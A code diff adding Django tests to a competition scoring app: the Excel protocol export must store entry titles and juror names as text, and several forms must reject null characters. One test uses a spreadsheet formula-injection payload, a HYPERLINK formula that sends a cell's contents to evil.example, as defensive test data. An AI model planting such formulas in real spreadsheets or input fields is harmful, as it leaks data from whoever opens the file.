@@ -14,7 +14,7 @@ from django.urls import reverse
 
 from competition.models import Award
 from scoring import protocol, results, services
-from scoring.models import ProtocolExport, ResultSnapshot, Score
+from scoring.models import AwardDecision, ProtocolExport, ResultSnapshot, Score, TieDecision
 from tests.factories import BASE, EntryFactory, UserFactory
 from tests.scoring.conftest import DURING_SCORING
 
@@ -207,6 +207,27 @@ def test_freeze_refused_for_chair(scored, category, chair):
         results.freeze_results(edition=category.edition, by=chair)
 
     assert excinfo.value.code == "forbidden"
+
+
+def test_protocol_writes_titles_names_and_justifications_as_text(
+    scored, category, organiser, juror
+):
+    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Kliknij")'
+    scored[0].title = formula
+    scored[0].save()
+    juror.first_name = "=1+1"
+    juror.save()
+    snapshot = freeze(category, organiser, scored)
+    buffer = io.BytesIO()
+
+    protocol.write_protocol(snapshot, buffer)
+
+    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert formula in texts
+    assert "=1+1" in texts
 
 
 def test_protocol_workbook_read_back_equals_snapshot(scored, category, organiser, juror, chair):
@@ -469,3 +490,53 @@ def test_protocol_decisions_show_warsaw_time(scored, category, organiser):
     workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
     [decision] = list(workbook["Decyzje"].iter_rows(min_row=2, values_only=True))
     assert decision[3] == dt.datetime(2026, 5, 11, 14, 0)
+
+
+NUL_MESSAGE = "Znaki null są niedozwolone."
+
+
+def test_break_tie_with_null_character_is_refused(
+    client, juror, chair, entries, criteria, category
+):
+    score_all([juror, chair], entries[:2], criteria, [[(5, 5), (5, 5)], [(5, 5), (5, 5)]])
+    client.force_login(chair)
+    data = {f"tie_{entries[1].pk}": "1", f"tie_{entries[0].pk}": "2", "justification": "Głos\x00"}
+
+    with time_machine.travel(DELIBERATION, tick=False):
+        response = client.post(reverse("scoring:break_tie", args=[category.pk]), data, follow=True)
+
+    assert NUL_MESSAGE in response.content.decode()
+    assert not TieDecision.objects.exists()
+
+
+@pytest.mark.parametrize("field", ["justification", "award"])
+def test_confirm_awards_with_null_character_is_refused(client, scored, category, chair, field):
+    client.force_login(chair)
+    data = {f"award_{scored[0].pk}": "place_1", "justification": "Zmiana."}
+    if field == "justification":
+        data["justification"] = "Zmiana\x00"
+    else:
+        data[f"award_{scored[0].pk}"] = "place_1\x00"
+
+    with time_machine.travel(DELIBERATION, tick=False):
+        response = client.post(
+            reverse("scoring:confirm_awards", args=[category.pk]), data, follow=True
+        )
+
+    assert NUL_MESSAGE in response.content.decode()
+    assert not AwardDecision.objects.exists()
+
+
+def test_freeze_with_null_character_in_reason_is_refused(client, scored, category, organiser):
+    snapshot = freeze(category, organiser, scored)
+    client.force_login(organiser)
+
+    with time_machine.travel(DELIBERATION, tick=False):
+        response = client.post(
+            reverse("scoring:freeze", args=[category.edition.pk]),
+            {"reason": "Korekta\x00"},
+            follow=True,
+        )
+
+    assert NUL_MESSAGE in response.content.decode()
+    assert list(ResultSnapshot.objects.all()) == [snapshot]
